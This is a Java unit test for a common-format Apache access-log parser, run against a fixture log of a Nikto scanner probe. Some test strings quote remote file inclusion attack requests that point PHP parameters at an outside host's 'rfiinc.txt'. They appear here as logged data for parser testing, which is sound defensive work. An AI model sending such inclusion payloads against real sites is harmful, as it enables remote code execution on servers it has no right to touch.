package org.hotline.parse.accesslog;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.hotline.event.Event;
import org.hotline.event.EventDetail.HttpRequest;
import org.hotline.event.IpAddress;
import org.hotline.parse.ParseRun;
import org.hotline.parse.ParserContract;
import org.hotline.parse.Parsers;
import org.junit.jupiter.api.Test;

class CommonLogParserTest implements ParserContract {
    private static final String NIKTO = "parse/common/crowdsec-apache-http-probing.log";

    @Override
    public String format() {
        return "common";
    }

    @Override
    public List<String> fixtures() {
        return List.of(NIKTO);
    }

    @Override
    public String truncatedLine() {
        return "172.17.0.1 - - [29/Sep/2021:12:37:05 +0000] \"GET /start.php?lang=http://cirt.net/rfiinc.txt? HTTP/1.1\" 40";
    }

    @Test
    void niktoScanInCommonFormat() {
        ParseRun run = ParseRun.file(Parsers.byName("common"), ParseRun.resource(NIKTO));
        assertThat(run.events).hasSize(77);
        // awk '{print $9}' crowdsec-apache-http-probing.log | sort | uniq -c  →  2 × 400, 75 × 404
        assertThat(run.count(e -> e.detail(HttpRequest.class).status() == 404)).isEqualTo(75);
        assertThat(run.count(e -> e.detail(HttpRequest.class).status() == 400)).isEqualTo(2);
        // awk '{print $1}' ... | sort -u  →  172.17.0.1 only
        assertThat(run.events).allMatch(e -> e.source().equals(IpAddress.parse("172.17.0.1")) && e.handshake());
        assertThat(run.events).allMatch(e -> e.detail(HttpRequest.class).userAgent() == null);
    }

    @Test
    void escapedQuotesStayInTheTargetAsLogged() {
        // sed -n 45p: "GET /sys/code/box.inc.php?config[\\\"sipssys\\\"]=http://cirt.net/rfiinc.txt? HTTP/1.1"
        Event e = ParseRun.file(Parsers.byName("common"), ParseRun.resource(NIKTO)).events.get(44);
        assertThat(e.detail(HttpRequest.class).target())
                .isEqualTo("/sys/code/box.inc.php?config[\\\\\\\"sipssys\\\\\\\"]=http://cirt.net/rfiinc.txt?");
    }

    @Test
    void combinedLinesAreNotCommon() {
        ParseRun run = ParseRun.lines(new CommonLogParser(ParseRun.inline()),
                "192.0.2.1 - - [01/Jan/2024:00:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"curl/8\"",
                "192.0.2.1 - - [01/Jan/2024:00:00:00 +0000] \"GET / HTTP/1.1\" 200 5 ");
        assertThat(run.malformed).extracting(ParseRun.Malformed::reason)
                .containsExactly("text after the size at column 67: not the common format (combined?)");
        assertThat(run.events).hasSize(1);
    }
}
